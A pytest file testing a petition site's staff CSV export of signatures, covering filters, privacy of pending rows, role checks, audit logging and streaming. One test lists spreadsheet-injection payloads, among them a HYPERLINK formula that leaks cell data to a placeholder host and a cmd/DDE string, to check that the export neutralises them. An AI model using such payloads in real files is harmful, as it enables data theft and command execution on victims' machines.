"""The signature export: a form, then a streamed CSV that holds exactly what was asked for and
can be opened safely in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from sqlalchemy import select

from campaigns.audit.models import AuditEntry
from campaigns.exports.csv_export import ExportFilters, csv_chunks
from campaigns.extensions import db
from campaigns.mailings.models import SuppressionReason
from campaigns.mailings.suppression import suppress
from campaigns.petitions.models import SignatureStatus
from tests.support import csrf_token

ALL_COLUMNS = [
    "name",
    "email",
    "country",
    "language",
    "network",
    "status",
    "signed_at",
    "confirmed_at",
    "comment",
    "newsletter",
    "show_name",
]


def export(client, campaign, columns=("name",), **fields):
    url = f"/staff/campaigns/{campaign.id}/export"
    page = client.get(url)
    assert page.status_code == 200
    data = {"csrf_token": csrf_token(page.get_data(as_text=True)), "columns": list(columns)}
    data.update(fields)
    return client.post(url, data=data)


def rows_of(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_confirmed_signatures_only_by_default_and_never_rejected(
    campaign, add_signature, make_staff, staff_login
):
    add_signature(name="Confirmed Carla")
    add_signature(name="Pending Pia", status=SignatureStatus.PENDING)
    add_signature(name="Rejected Rita", status=SignatureStatus.REJECTED)
    client = staff_login(make_staff("campaigner"))

    default = export(client, campaign)
    assert default.status_code == 200
    assert rows_of(default) == [["Name"], ["Confirmed Carla"]]

    with_pending = export(client, campaign, columns=["name", "status"], status="all")
    assert rows_of(with_pending)[1:] == [
        ["Confirmed Carla", "confirmed"],
        ["", "pending"],  # anyone may have typed that address: no name (see below)
    ]


def test_pending_rows_are_exported_without_name_email_or_comment(
    campaign, add_signature, make_staff, staff_login
):
    carla = add_signature(name="Confirmed Carla", comment="Count me in")
    add_signature(name="Pending Pia", country="FR", status=SignatureStatus.PENDING, comment="Hi")
    client = staff_login(make_staff("campaigner"))

    columns = ["name", "email", "country", "status", "comment", "show_name"]
    rows = rows_of(export(client, campaign, columns=columns, status="all"))
    assert rows[1:] == [
        ["Confirmed Carla", carla.email, "DE", "confirmed", "Count me in", "no"],
        ["", "", "FR", "pending", "", "no"],
    ]
    body = export(client, campaign, columns=ALL_COLUMNS, status="all").get_data(as_text=True)
    assert "Pending Pia" not in body
    assert body.count("@example.org") == 1


def test_filters_by_country_network_and_dates(
    campaign, add_signature, networks, make_staff, staff_login
):
    asud, jes = networks["asud"], networks["jes"]
    add_signature(
        name="Early", country="FR", network=asud, signed=datetime(2026, 3, 1, 23, 59, tzinfo=UTC)
    )
    add_signature(
        name="Middle", country="FR", network=asud, signed=datetime(2026, 3, 2, 0, 0, tzinfo=UTC)
    )
    add_signature(
        name="Late", country="FR", network=asud, signed=datetime(2026, 3, 4, 0, 0, tzinfo=UTC)
    )
    add_signature(
        name="German", country="DE", network=jes, signed=datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
    )
    add_signature(name="Direct", country="FR", signed=datetime(2026, 3, 2, 12, 0, tzinfo=UTC))
    client = staff_login(make_staff("campaigner"))

    def names(**fields) -> list[str]:
        response = export(client, campaign, **fields)
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        return sorted(row[0] for row in rows_of(response)[1:])

    assert names(country="FR") == ["Direct", "Early", "Late", "Middle"]
    assert names(network=str(asud.id)) == ["Early", "Late", "Middle"]
    assert names(network=str(jes.id)) == ["German"]
    # Days are whole UTC days, the last one included.
    assert names(date_from="2026-03-02", date_to="2026-03-03") == ["Direct", "German", "Middle"]
    assert names(
        date_from="2026-03-02", date_to="2026-03-04", country="FR", network=str(asud.id)
    ) == [
        "Late",
        "Middle",
    ]
    assert names(date_to="2026-03-01", date_field="signed") == ["Early"]


def test_only_the_chosen_columns_in_a_fixed_order(
    campaign, add_signature, networks, make_staff, staff_login
):
    add_signature(
        name="Ada",
        country="PT",
        network=networks["caso"],
        comment="Obrigada",
        show_name=True,
        newsletter=True,
        signed=datetime(2026, 3, 2, 10, 30, 5, tzinfo=UTC),
    )
    client = staff_login(make_staff("campaigner"))

    chosen = rows_of(export(client, campaign, columns=["country", "name"]))
    assert chosen == [["Name", "Country (code)"], ["Ada", "PT"]]

    everything = rows_of(export(client, campaign, columns=ALL_COLUMNS))
    assert len(everything[0]) == len(ALL_COLUMNS)
    row = dict(zip(everything[0], everything[1], strict=True))
    assert row["Name"] == "Ada"
    assert row["Email address"].endswith("@example.org")
    assert row["Brought by network"] == networks["caso"].name
    assert row["Language (code)"] == "en"
    assert row["Signed at (UTC)"] == "2026-03-02 10:30:05"
    assert row["Confirmed at (UTC)"] == "2026-03-02 10:30:05"
    assert row["Comment"] == "Obrigada"
    assert row["Newsletter consent"] == "yes"
    assert row["Name may be shown publicly"] == "yes"


def test_spreadsheet_formulas_are_neutralised(campaign, add_signature, make_staff, staff_login):
    dangerous = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\tTabbed",
        "\rReturned",
    ]
    for i, text in enumerate(dangerous):
        add_signature(name=f"Name {i}", comment=text)
    add_signature(name="=1+1", comment="A harmless comment = fine")
    client = staff_login(make_staff("campaigner"))

    rows = rows_of(export(client, campaign, columns=["name", "comment"]))[1:]
    comments = [comment for _name, comment in rows]
    assert comments[: len(dangerous)] == ["'" + text for text in dangerous]
    assert rows[-1] == ["'=1+1", "A harmless comment = fine"]


def test_a_coordinator_exports_nobody(campaign, add_signature, networks, make_staff, staff_login):
    """Signers are told that a member network sees how many people it brought, never who."""
    asud = networks["asud"]
    add_signature(name="Via ASUD", network=asud)
    client = staff_login(make_staff("coordinator", network=asud))

    url = f"/staff/campaigns/{campaign.id}/export"
    assert client.get(url).status_code == 403
    # A valid token from a page the coordinator may open: the refusal is the role's, not CSRF's.
    token = csrf_token(client.get("/staff/account").get_data(as_text=True))
    response = client.post(
        url, data={"csrf_token": token, "columns": ["name"], "network": str(asud.id)}
    )
    assert response.status_code == 403
    assert "Via ASUD" not in response.get_data(as_text=True)
    assert (
        db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "signatures.exported")
        ).all()
        == []
    )


def test_bad_filters_are_shown_next_to_the_fields_and_kept(campaign, make_staff, staff_login):
    client = staff_login(make_staff("campaigner"))
    response = export(
        client,
        campaign,
        columns=[],
        date_from="31/12/2026",
        date_to="2026-02-30",
        country="XX",
        network="99999",
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert response.mimetype == "text/html"
    assert "Use a date like 2026-03-31, between 2000-01-01 and 9998-12-31." in page
    assert 'value="31/12/2026"' in page
    assert 'value="2026-02-30"' in page
    assert "Please choose a country from the list." in page
    assert "Please choose a network from the list." in page
    assert "Please choose at least one column." in page

    backwards = export(client, campaign, date_from="2026-03-05", date_to="2026-03-01")
    assert backwards.status_code == 422
    assert "The last day cannot be before the first." in backwards.get_data(as_text=True)

    last_day = export(client, campaign, date_from="0001-01-01", date_to="9999-12-31")
    assert last_day.status_code == 422  # the day after it cannot be computed: a field error
    assert 'value="9999-12-31"' in last_day.get_data(as_text=True)

    unknown_column = export(client, campaign, columns=["name", "password_hash"])
    assert unknown_column.status_code == 422
    assert (
        db.session.scalars(
            select(AuditEntry).where(AuditEntry.action == "signatures.exported")
        ).all()
        == []
    )


def test_each_export_is_recorded_before_it_streams(
    campaign, add_signature, make_staff, staff_login
):
    add_signature(country="FR")
    add_signature(country="FR")
    add_signature(country="DE")
    user = make_staff("campaigner")
    client = staff_login(user)

    response = export(
        client, campaign, columns=["name", "email"], country="FR", date_from="2026-01-01"
    )
    # The entry is there before a byte of the file was read.
    entry = db.session.scalars(
        select(AuditEntry).where(AuditEntry.action == "signatures.exported")
    ).one()
    assert entry.actor_id == user.id
    assert entry.campaign_id == campaign.id
    assert entry.detail == {
        "filters": {
            "status": "confirmed",
            "country": "FR",
            "network_id": None,
            "date_field": "confirmed",
            "from": "2026-01-01",
            "to": None,
        },
        "columns": ["name", "email"],
        "rows": 2,
    }
    assert len(rows_of(response)) == 3


def test_the_download_streams_with_safe_headers(campaign, add_signature, make_staff, staff_login):
    add_signature(name="Zoë Ünïcode")
    client = staff_login(make_staff("admin"))
    response = export(client, campaign)
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    today = datetime.now(UTC).strftime("%Y-%m-%d")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="naloxone-in-every-pocket-signatures-{today}.csv"'
    )
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbfName\r\n")
    assert "Zoë Ünïcode".encode() in body


def test_rows_come_in_batches_without_gaps_or_repeats(app, campaign, add_signature):
    for i in range(7):
        add_signature(name=f"Signer {i}", newsletter=i % 2 == 0)
    with app.test_request_context():
        chunks = list(
            csv_chunks(
                campaign.petition.id, ExportFilters(), ["name", "newsletter"], {}, batch_size=3
            )
        )
    assert len(chunks) == 1 + 3  # the header, then batches of 3, 3 and 1
    rows = list(csv.reader(io.StringIO("".join(chunks)[1:])))
    assert rows == [["Name", "Newsletter consent"]] + [
        [f"Signer {i}", "yes" if i % 2 == 0 else "no"] for i in range(7)
    ]


def test_the_newsletter_column_says_no_for_addresses_no_mailing_goes_to(
    app, campaign, add_signature
):
    signatures = {
        name: add_signature(name=name, newsletter=name != "Unticked")
        for name in ["Kept", "Left", "Bounced", "Unticked", "Complained", "Kept too", "Late"]
    }
    for name, reason in [
        ("Left", SuppressionReason.UNSUBSCRIBED),
        ("Bounced", SuppressionReason.BOUNCED),
        ("Unticked", SuppressionReason.UNSUBSCRIBED),
        ("Complained", SuppressionReason.COMPLAINED),
        ("Late", SuppressionReason.UNSUBSCRIBED),
    ]:
        suppress(signatures[name].email.upper(), reason)  # found whatever its case
    with app.test_request_context():
        chunks = list(
            csv_chunks(
                campaign.petition.id, ExportFilters(), ["name", "newsletter"], {}, batch_size=2
            )
        )
    rows = list(csv.reader(io.StringIO("".join(chunks)[1:])))
    assert rows == [
        ["Name", "Newsletter consent"],
        ["Kept", "yes"],
        ["Left", "no (unsubscribed)"],
        ["Bounced", "no (address bounced)"],
        ["Unticked", "no"],
        ["Complained", "no (marked as spam)"],
        ["Kept too", "yes"],
        ["Late", "no (unsubscribed)"],
    ]


def test_the_form_page(campaign, add_signature, make_staff, staff_login):
    add_signature()
    add_signature(status=SignatureStatus.PENDING)
    client = staff_login(make_staff("campaigner"))
    page = client.get(f"/staff/campaigns/{campaign.id}/export")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "1 confirmed and 1 pending signatures." in html
    assert "Pending signatures are exported without name, email address or comment" in html
    assert 'style="' not in html
    assert client.get("/staff/campaigns/999999/export").status_code == 404
